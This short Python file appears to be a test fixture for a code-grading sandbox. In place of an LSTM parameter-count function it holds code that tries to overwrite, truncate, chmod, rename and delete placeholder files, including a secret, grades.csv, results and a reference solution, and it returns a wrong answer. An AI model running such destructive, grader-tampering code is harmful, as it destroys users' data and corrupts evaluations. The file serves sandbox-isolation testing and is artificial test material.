# ---
# about: deletes, overwrites, truncates and renames files that the same user owns
# base: wrong
# ---
import os, shutil

def damage():
    for path in ("@VICTIM@", "@SECRET@", "@OUT@/grades.csv", "@OUT@/results", "/proc/1/root@VICTIM@", "@REPOSITORY@/solutions/lstm/reference.py"):
        for attempt in (lambda: open(path, "a").write("pwned"), lambda: os.truncate(path, 0), lambda: os.chmod(path, 0),
                        lambda: os.rename(path, path + ".gone"), lambda: os.remove(path), lambda: shutil.rmtree(path)):
            try:
                attempt()
            except OSError:
                continue
            raise RuntimeError("PWNED " + path)

damage()

# %% instead of lstm_param_count
def lstm_param_count(input_size, hidden_size):
    damage()
    return 11
